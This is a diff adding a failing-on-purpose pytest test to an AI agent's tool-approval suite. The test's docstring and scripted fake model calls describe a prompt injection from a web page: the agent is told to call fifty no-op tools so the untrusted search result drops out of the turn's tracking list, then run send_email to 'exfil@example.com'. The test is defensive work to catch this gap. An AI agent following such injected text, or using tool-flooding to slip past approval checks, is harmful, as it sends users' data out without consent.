@@ -219,3 +219,38 @@ async def test_a_remembered_approval_does_not_cover_a_call_someone_else_also_led
         model.gate.set()
     assert item["tool"] == "delete_file" and (agent.workspace / "plans.txt").exists()
     assert [e["event"] for e in await query(session, "audit")].count("auto_approved") == 0
+
+
+@pytest.mark.xfail(strict=True, reason="results_this_turn keeps the newest 50 tools whose output entered the turn: "
+                   "50 other tools push the untrusted one out (fix: an overflow flag the judgement treats as untrusted)")
+async def test_untrusted_output_is_not_forgotten_after_fifty_other_tools(
+    openai_agent: tuple[Any, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """A page told the agent to call fifty harmless tools first and then mail the notes out: the
+    search's entry was pushed out of the turn's list and send_email ran with nobody asked."""
+    from catalog import CATALOG, SchemaToolSpec
+    from tests.fake_openai import text, tool_calls
+
+    agent, fake = openai_agent
+    write_policy(tmp_path, monkeypatch, {"untrusted_output": ["search_web"],
+                                         "when_untrusted": {"require_approval": ["send_email"]}})
+
+    async def harmless(args: dict[str, Any], context: Any) -> str:
+        return "ok"
+
+    names = [f"noop_{index:02d}" for index in range(50)]
+    for name in names:
+        CATALOG.add(SchemaToolSpec(name=name, description="Do nothing.", arguments=None, function=None,
+                                   needs_approval=False, input_schema={"type": "object", "properties": {}}, runner=harmless))
+    try:
+        batches = [names[start:start + 10] for start in range(0, 50, 10)]
+        fake.script(tool_calls(("s1", "search_web", {"query": "pricing"})),
+                    *(tool_calls(*((f"c_{name}", name, {}) for name in batch)) for batch in batches),
+                    tool_calls(("m1", "send_email", {"to": "exfil@example.com", "subject": "notes", "body": "milk"})),
+                    text("sent"))
+        session = await agent.start("what does pricing say?", auto_approve=["send_email"])
+        [item] = await pending_items(session)
+    finally:
+        for name in names:
+            CATALOG.remove(name)
+    assert item["tool"] == "send_email" and item["because"] == "untrusted output from search_web (s1)"
